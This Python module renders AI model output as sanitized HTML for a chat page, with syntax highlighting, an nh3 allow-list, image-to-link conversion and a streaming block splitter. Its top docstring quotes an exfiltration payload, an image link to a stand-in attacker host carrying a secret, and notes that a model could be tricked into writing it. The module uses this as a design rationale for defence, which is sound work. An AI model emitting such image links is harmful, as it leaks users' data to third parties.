"""Model text -> safe HTML. A pure function of text: no Django models, no I/O.

markdown-it-py parses CommonMark plus tables and strikethrough with raw HTML off; fenced
code is highlighted by Pygments (CSS classes only, no inline styles: the page's CSP
forbids them) under a header with the language and a copy button; images become plain
links (a model tricked into writing `![](https://attacker/?q=secret)` must not make the
browser fetch anything); and nh3 cleans the result with an explicit allow-list, whatever
the renderer produced.

Streaming: `BlockSplitter` finds the places where the text so far can be cut into
finished blocks (a blank line outside a code fence, not inside a list), so a frame sends
each finished block once and re-renders only the block still growing. The cost of a frame
depends on the size of that block, never on the length of the answer.
"""

from __future__ import annotations

import re
from dataclasses import dataclass
from functools import lru_cache
from html import escape
from typing import Any

import nh3
from markdown_it import MarkdownIt
from markdown_it.renderer import RendererHTML
from markdown_it.token import Token
from markdown_it.utils import EnvType, OptionsDict
from pygments import highlight
from pygments.formatters import HtmlFormatter
from pygments.lexer import Lexer
from pygments.lexers import get_lexer_by_name
from pygments.token import STANDARD_TYPES
from pygments.util import ClassNotFound

_FORMATTER = HtmlFormatter(nowrap=True, classprefix="tok-")
_LANG = re.compile(r"[^a-zA-Z0-9_+#.-]")
_MAX_HIGHLIGHT = 100_000  # characters; past this a code block is shown plain

ALLOWED_TAGS = {
    "p", "br", "hr", "h1", "h2", "h3", "h4", "h5", "h6", "ul", "ol", "li", "blockquote",
    "pre", "code", "span", "em", "strong", "del", "s", "a", "table", "thead", "tbody",
    "tr", "th", "td", "div", "button",
}  # fmt: skip
ALLOWED_ATTRIBUTES = {
    "a": {"href", "title"},
    "ol": {"start"},
    "button": {"type", "aria-label"},
}
# No id, name, style, on*, hx-*, data-*, src, action: nothing that could collide with the
# page, run, fetch or be processed by htmx. Classes only from our own vocabulary.
_TOKEN_CLASSES = {f"tok-{name}" for name in STANDARD_TYPES.values() if name}
ALLOWED_CLASSES = {
    "span": _TOKEN_CLASSES | {"code-lang"},
    "div": {"code-block", "code-head"},
    "button": {"copy-button"},
    "th": {"align-left", "align-center", "align-right"},
    "td": {"align-left", "align-center", "align-right"},
    "a": {"image-link"},
    "code": {"code"},
    "pre": {"highlight"},
}
_ABSOLUTE_LINK = re.compile(r"^(?:https?://|mailto:)", re.I)


def _attribute_filter(tag: str, attribute: str, value: str) -> str | None:
    # Only absolute web and mail links: a relative link in model text would point into
    # this very site, and odd encodings of "javascript:" are relative links too.
    if attribute == "href" and not _ABSOLUTE_LINK.match(value):
        return None
    return value


_CLEANER = nh3.Cleaner(
    attribute_filter=_attribute_filter,
    tags=ALLOWED_TAGS,
    clean_content_tags={"script", "style"},
    attributes=ALLOWED_ATTRIBUTES,
    allowed_classes=ALLOWED_CLASSES,
    url_schemes={"http", "https", "mailto"},
    link_rel="noopener noreferrer nofollow",
    set_tag_attribute_values={"a": {"target": "_blank"}},
    strip_comments=True,
)


@lru_cache(maxsize=256)
def _lexer(lang: str) -> Lexer | None:
    # Looking a lexer up by name scans Pygments' whole registry: do it once per language.
    try:
        return get_lexer_by_name(lang)
    except ClassNotFound:
        return None


def _fence(
    renderer: RendererHTML, tokens: list[Token], idx: int, options: OptionsDict, env: EnvType
) -> str:
    token = tokens[idx]
    lang = _LANG.sub("", token.info.strip().split(" ")[0])[:30] if token.info else ""
    code = token.content
    body = escape(code)
    lexer = _lexer(lang.lower()) if lang and len(code) <= _MAX_HIGHLIGHT else None
    if lexer is not None:
        body = highlight(code, lexer, _FORMATTER)
    return _code_block(lang, body)


def _code_block(lang: str, body: str) -> str:
    """A code block's markup around `body`, which must already be safe HTML."""
    label = escape(lang or "text")
    return (
        '<div class="code-block"><div class="code-head">'
        f'<span class="code-lang">{label}</span>'
        '<button type="button" class="copy-button" aria-label="Copy code">Copy</button>'
        f'</div><pre class="highlight"><code class="code">{body}</code></pre></div>\n'
    )


def _image(
    renderer: RendererHTML, tokens: list[Token], idx: int, options: OptionsDict, env: EnvType
) -> str:
    # Never an <img>: loading it would tell a third party what the reader is reading.
    token = tokens[idx]
    src = escape(str(token.attrGet("src") or ""))
    alt = escape(token.content or "image")
    return f'<a class="image-link" href="{src}">Image: {alt}</a>'


def _cell_align(state: Any) -> None:
    # Table alignment arrives as style="text-align:…"; the CSP forbids inline styles.
    for token in state.tokens:
        if token.type in ("th_open", "td_open"):
            style = token.attrGet("style") or ""
            if isinstance(style, str) and "text-align:" in style:
                token.attrs.pop("style", None)
                token.attrSet("class", "align-" + style.split(":", 1)[1].strip())


def _make_parser() -> MarkdownIt:
    md = MarkdownIt("commonmark", {"html": False, "linkify": False, "typographer": False})
    md.enable(["table", "strikethrough"])
    md.add_render_rule("fence", _fence)
    md.add_render_rule("code_block", _fence)
    md.add_render_rule("image", _image)
    md.core.ruler.push("cell_align", _cell_align)
    return md


_MD = _make_parser()


def sanitize(html: str) -> str:
    return _CLEANER.clean(html)


def render(text: str) -> str:
    """Safe HTML for a piece of model (or imported) text."""
    if not text:
        return ""
    return sanitize(_MD.render(text))


@lru_cache(maxsize=4096)
def render_markdown(text: str) -> str:
    """render(), remembered: pages show the same finished answers again and again."""
    return render(text)


# Text that CommonMark (+ tables, strikethrough; raw HTML, linkify and typographer off)
# can only read as one plain paragraph: no inline syntax, no hard break, no blank line,
# and no line that could open or underline a block.
_NOT_PLAIN = re.compile(r"[\\`*_\[\]<>&~|]| \n|\n[ \t]*\n")
_BLOCK_LINE = re.compile(r"^ {0,3}[ \t#>+*=\d`~-]", re.MULTILINE)
_FENCE_START = re.compile(r"^ {0,3}(`{3,}|~{3,})([^\n`]*)\n")


def render_tail(text: str) -> str:
    """render() for the block still growing at the end of a streaming answer: the same
    HTML for a plain paragraph and the code of a fence still open, without the parser
    (most frames of most answers); any other block goes through render(). A finished
    block is always rendered whole by render(), highlighting included."""
    if not text.strip():
        return ""
    if not _NOT_PLAIN.search(text) and not _BLOCK_LINE.search(text):
        lines = "\n".join(line.strip() for line in text.strip().split("\n"))
        return f"<p>{escape(lines, quote=False)}</p>\n"
    fence = _FENCE_START.match(text)
    if fence is not None:
        code = text[fence.end() :]
        marker = fence.group(1)
        closing_line = rf"^ {{0,3}}{re.escape(marker[0])}{{{len(marker)},}}[ \t]*$"
        closing = re.search(closing_line, code, re.MULTILINE)
        if closing is None:
            # Highlighted once the fence closes: Pygments on every frame of a long block
            # would cost more than all the rest of the frame.
            lang = _LANG.sub("", fence.group(2).strip().split(" ")[0])[:30]
            return _code_block(lang, escape(code, quote=False))
    return render(text)


def plain_text(html: str) -> str:
    """The words of rendered HTML, for a screen reader's announcement."""
    return " ".join(nh3.clean(html, tags=set()).split())


# --- streaming ---------------------------------------------------------------------------

_FENCE_OPEN = re.compile(r"^ {0,3}(`{3,}|~{3,})")
_LIST_ITEM = re.compile(r"^ {0,3}(?:[-+*]|\d{1,9}[.)])(?:\s|$)")


@dataclass
class BlockSplitter:
    """Cuts an answer growing at its end into finished blocks and the block still growing.

    Fed only the new text, it keeps just the growing block and scans each complete line
    once, so its cost follows the size of that block, not of the answer. A blank line
    outside a code fence ends a block unless what follows continues it (an indented line,
    or another item of the same list); a closing fence ends a block at once.
    """

    window: str = ""  # the text after the last finished block
    _scanned: int = 0
    _fence: str = ""
    _block_is_list: bool = False
    _block_started: bool = False
    _pending: int = -1  # a blank line's end, confirmed or dropped by the next line
    _boundary: int = 0

    def feed(self, delta: str) -> tuple[str, str]:
        """(text finished by this delta, the growing block's whole text)."""
        window = self.window = self.window + delta
        while True:
            end = window.find("\n", self._scanned)
            if end == -1:
                break
            self._line(window[self._scanned : end], end + 1)
            self._scanned = end + 1
        cut = self._boundary
        if not cut:
            return "", window
        finished, self.window = window[:cut], window[cut:]
        self._scanned -= cut
        if self._pending >= 0:
            self._pending -= cut
        self._boundary = 0
        return finished, self.window

    def _line(self, line: str, end: int) -> None:
        if self._fence:
            stripped = line.strip()
            if stripped.startswith(self._fence) and set(stripped) == {self._fence[0]}:
                self._fence = ""
                self._close_block(end)
            return
        if not line.strip():
            if self._block_started:
                self._pending = end
            return
        if self._pending >= 0:
            continues = line.startswith(("  ", "\t")) or (
                self._block_is_list and bool(_LIST_ITEM.match(line))
            )
            if not continues:
                self._close_block(self._pending)
            self._pending = -1
        if not self._block_started:
            self._block_started = True
            self._block_is_list = bool(_LIST_ITEM.match(line))
        match = _FENCE_OPEN.match(line)
        if match:
            self._fence = match.group(1)

    def _close_block(self, at: int) -> None:
        self._boundary = at
        self._block_started = False
        self._block_is_list = False
        self._pending = -1
